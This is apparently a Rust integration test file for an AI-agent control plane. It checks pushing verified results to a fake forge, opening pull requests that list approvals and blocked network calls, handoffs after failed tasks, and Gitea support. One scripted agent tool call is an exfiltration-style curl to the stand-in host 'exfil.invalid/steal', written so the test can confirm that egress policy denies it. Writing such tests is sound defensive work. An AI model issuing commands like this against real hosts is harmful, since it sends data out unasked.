//! Delivery: a task's verified result pushed to its repository's forge
//! with the control plane's token (only `backshift/*`, never forced) and
//! a pull request opened whose body holds the summary, the tests, the
//! approvals and denials and the blocked network calls. The forge is
//! `testkit::forge::FakeForge`: real git over smart HTTP and a stand-in
//! for GitHub's REST endpoints that checks every request.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::{World, sh, world_on_forge};
use reqwest::Method;
use serde_json::{Value, json};
use std::time::Duration;

async fn submit(w: &World, url: &str, prompt: &str, extra: &[&str]) -> String {
    let mut args = vec!["run", prompt, "--repo", url];
    args.extend_from_slice(extra);
    let (code, out, err) = w.cli(&args).await;
    assert_eq!(code, 0, "{out}{err}");
    out.split_whitespace().nth(1).unwrap().to_owned()
}

/// Waits until the task's delivery reaches a settled state.
async fn delivered(w: &World, task: &str) -> Value {
    for _ in 0..300 {
        let (_, v) = w
            .api(Method::GET, &format!("/api/v1/tasks/{task}"), None)
            .await;
        let state = v["delivery"]["state"].as_str().unwrap_or("");
        if !state.is_empty() && state != "pushing" {
            return v;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("task {task} was never delivered");
}

fn git_out(repo: &std::path::Path, args: &[&str]) -> String {
    let out = std::process::Command::new("git")
        .arg("--git-dir")
        .arg(repo)
        .args(args)
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

const GOOD_CALC: &str = "def add(a, b):\n    return a + b\n\n\ndef sub(a, b):\n    return a - b\n\n\ndef mul(a, b):\n    return a * b\n";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_verified_result_is_pushed_and_a_pull_request_tells_the_whole_story() {
    // The agent writes mul, tries to send something out (refused), asks
    // for another host (a person approves; it does not resolve), and
    // finishes; the tests pass.
    let steps = json!({"steps": [
        {"reply": {"tool_calls": [{"name": "write_file", "arguments": {"path": "calc.py", "content": GOOD_CALC}}]}},
        {"reply": {"tool_calls": [{"name": "run_command", "arguments": {"command": "curl -s -o /dev/null -w '%{http_code}\\n' http://exfil.invalid/steal"}}]}},
        {"expect": {"tool_results": [{"contains": "403"}]},
         "reply": {"tool_calls": [{"name": "run_command", "arguments": {"command": "curl -s -o /dev/null -w '%{http_code}\\n' http://docs.invalid/api"}}]}},
        {"reply": {"tool_calls": [{"name": "finish", "arguments": {"summary": "Add mul\n\nMultiplication for calc."}}]}}
    ]});
    let (w, forge, url) = world_on_forge(
        steps,
        "[[egress.rules]]\nhost = \"docs.invalid\"\naction = \"ask\"\n",
    )
    .await;
    let task = submit(&w, &url, "Add mul to calc", &[]).await;
    // Approve the one request put to a person.
    let mut approved = false;
    for _ in 0..600 {
        let (_, list) = w.api(Method::GET, "/api/v1/approvals", None).await;
        if let Some(a) = list.as_array().and_then(|l| l.first()) {
            let id = a["id"].as_str().unwrap();
            let (code, out, err) = w.cli(&["approve", id]).await;
            assert_eq!(code, 0, "{out}{err}");
            approved = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(approved, "nothing asked for approval");
    let view = w.wait(&task).await;
    assert_eq!(view["state"], "succeeded", "{view:#}");
    let fake = w.fake.as_ref().unwrap();
    assert!(fake.failures().is_empty(), "{:?}", fake.failures());
    let view = delivered(&w, &task).await;
    let attempt = &view["attempts"][0];
    let branch = attempt["branch"].as_str().unwrap();
    let head = attempt["head_commit"].as_str().unwrap();
    let d = &view["delivery"];
    assert_eq!(d["state"], "opened", "{d:#}");
    assert_eq!(d["branch"], branch);
    assert_eq!(d["commit"], head);
    assert_eq!(d["pull_request"], 1);
    assert!(
        d["pull_request_url"]
            .as_str()
            .unwrap()
            .ends_with("/acme/calc/pull/1")
    );

    // The branch landed upstream at the verified commit; main is untouched.
    let upstream = forge.repo_path("acme", "calc");
    assert_eq!(
        git_out(&upstream, &["rev-parse", &format!("refs/heads/{branch}")]),
        head
    );
    assert_eq!(
        git_out(&upstream, &["rev-parse", "refs/heads/main"]),
        sh(&w.repo, "git rev-parse main").await
    );
    // Every API request was one GitHub would take, in the expected order.
    assert!(forge.failures().is_empty(), "{:#?}", forge.failures());
    let calls: Vec<String> = forge
        .requests()
        .iter()
        .map(|r| format!("{} {}", r.method, r.path))
        .collect();
    assert_eq!(
        calls,
        [
            "GET /api/repos/acme/calc".to_owned(),
            format!("GET /api/repos/acme/calc/pulls?state=open&head=acme:{branch}"),
            "POST /api/repos/acme/calc/pulls".to_owned(),
        ],
        "{calls:#?}"
    );
    let pr = &forge.pulls()[0];
    assert_eq!(pr["title"], "Add mul");
    assert_eq!(pr["head"]["ref"], branch);
    assert_eq!(pr["base"]["ref"], "main");
    assert_eq!(pr["draft"], false);
    let body = pr["body"].as_str().unwrap();
    for want in [
        "## Summary\n\nAdd mul\n\nMultiplication for calc.",
        "> Add mul to calc",
        "✅ Passed: `python3 run_tests.py` in a fresh sandbox",
        "3 passed, 0 failed, 0 skipped (junit report)",
        "## Approvals and denials",
        "egress: ",
        "docs.invalid",
        "**approved (once)** by admin",
        "## Blocked network calls",
        "`GET exfil.invalid:80/steal`: denied: ",
        "`GET docs.invalid:80/api`: failed: ",
        &format!("branch `{branch}` at `{}`", &head[..12]),
    ] {
        assert!(
            body.contains(want),
            "{want:?} missing from the PR body:\n{body}"
        );
    }
    // The token went nowhere it should not: not in the record, not in what
    // the CLI shows, not in the PR.
    let events = w.events(&format!("{task}-1")).await;
    assert!(events.iter().any(|e| e["type"] == "delivered"));
    let (_, shown, _) = w.cli(&["show", &task]).await;
    assert!(shown.contains("pull request #1"), "{shown}");
    let (_, logs, _) = w.cli(&["logs", &task]).await;
    let (_, audit, _) = w.cli(&["audit", "--jsonl"]).await;
    for (what, text) in [
        ("events", serde_json::to_string(&events).unwrap()),
        ("show", shown),
        ("logs", logs),
        ("audit", audit.clone()),
        ("pull request", pr.to_string()),
    ] {
        assert!(
            !text.contains(common::FORGE_TOKEN),
            "the forge token is in the {what}"
        );
    }
    assert!(audit.contains("task.deliver.opened"), "{audit}");

    // Delivering again opens nothing new.
    let (code, out, err) = w.cli(&["deliver", &task]).await;
    assert_eq!(code, 0, "{out}{err}");
    tokio::time::sleep(Duration::from_millis(300)).await;
    let view = delivered(&w, &task).await;
    assert_eq!(view["delivery"]["state"], "opened");
    assert_eq!(forge.pulls().len(), 1);

    // Never forced: once the branch upstream holds someone else's commit,
    // delivery fails and leaves it alone.
    let other = tempfile::tempdir().unwrap();
    sh(
        other.path(),
        &format!(
            "git clone -q {} c && cd c && git checkout -q {branch} && echo theirs > theirs.txt && git add . && git -c user.name=t -c user.email=t@t.invalid commit -qm theirs && git push -q origin {branch}",
            upstream.display()
        ),
    )
    .await;
    let theirs = git_out(&upstream, &["rev-parse", &format!("refs/heads/{branch}")]);
    assert_ne!(theirs, head);
    // (The stored delivery says `opened`; pushing again must now fail.)
    let (code, _, _) = w.cli(&["deliver", &task]).await;
    assert_eq!(code, 0);
    let mut failed = Value::Null;
    for _ in 0..100 {
        let (_, v) = w
            .api(Method::GET, &format!("/api/v1/tasks/{task}"), None)
            .await;
        if v["delivery"]["state"] == "failed" {
            failed = v;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let error = failed["delivery"]["error"]
        .as_str()
        .expect("the delivery did not fail");
    assert!(error.contains("never force-pushes"), "{error}");
    assert_eq!(
        git_out(&upstream, &["rev-parse", &format!("refs/heads/{branch}")]),
        theirs,
        "the upstream branch was overwritten"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failed_task_delivers_nothing_and_leaves_a_handoff() {
    let broken = GOOD_CALC.replace("a + b", "a - b");
    let steps = json!({"steps": [
        {"reply": {"tool_calls": [{"name": "write_file", "arguments": {"path": "calc.py", "content": broken}}]}},
        {"reply": {"tool_calls": [{"name": "finish", "arguments": {"summary": "Add mul"}}]}}
    ]});
    let (w, forge, url) = world_on_forge(steps, "").await;
    let task = submit(&w, &url, "Add mul to calc", &["--max-iterations", "1"]).await;
    let view = w.wait(&task).await;
    assert_eq!(view["state"], "failed", "{view:#}");
    tokio::time::sleep(Duration::from_millis(500)).await;
    let (_, view) = w
        .api(Method::GET, &format!("/api/v1/tasks/{task}"), None)
        .await;
    assert!(view["winner"].is_null());
    assert!(view["delivery"].is_null(), "{view:#}");
    assert_eq!(forge.pushes(), 0, "nothing was pushed");
    assert!(forge.pulls().is_empty());
    let branch = view["attempts"][0]["branch"].as_str().unwrap().to_owned();
    let handoff = view["handoff"].as_str().expect("no handoff note");
    for want in [
        "# Handoff: Add mul to calc",
        "No attempt succeeded, so nothing was delivered.",
        "**failed** — verification_failed: verification failed 1 time(s)",
        "❌ Failed: `python3 run_tests.py`",
        "`test_calc.CalcTest.test_add`: AssertionError: -1 != 5",
        &format!("branch `{branch}` holds its last work at"),
    ] {
        assert!(handoff.contains(want), "{want:?} missing from:\n{handoff}");
    }
    let (_, shown, _) = w.cli(&["show", &task]).await;
    assert!(shown.contains("# Handoff"), "{shown}");
    // The work is there to take over.
    let (code, out, err) = w.cli(&["checkout", &task]).await;
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(sh(&w.repo, "git branch --show-current").await, branch);
    assert!(sh(&w.repo, "cat calc.py").await.contains("def mul"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_gitea_forge_gets_the_branch_and_a_pull_request_in_its_own_dialect() {
    let steps = json!({"steps": [
        {"reply": {"tool_calls": [{"name": "write_file", "arguments": {"path": "calc.py", "content": GOOD_CALC}}]}},
        {"reply": {"tool_calls": [{"name": "finish", "arguments": {"summary": "Add mul"}}]}}
    ]});
    let (w, forge, url) = common::world_on_forge_of("gitea", steps, "").await;
    let task = submit(&w, &url, "Add mul to calc", &[]).await;
    let view = w.wait(&task).await;
    assert_eq!(view["state"], "succeeded", "{view:#}");
    let view = delivered(&w, &task).await;
    assert_eq!(view["delivery"]["state"], "opened", "{view:#}");
    assert_eq!(forge.pulls().len(), 1);
    // Gitea's credentials, no GitHub-only headers or fields.
    assert!(forge.failures().is_empty(), "{:#?}", forge.failures());
    for r in forge.requests() {
        assert_eq!(
            r.headers.get("authorization").map(String::as_str),
            Some(format!("token {}", common::FORGE_TOKEN).as_str()),
            "{} {}",
            r.method,
            r.path
        );
    }
}
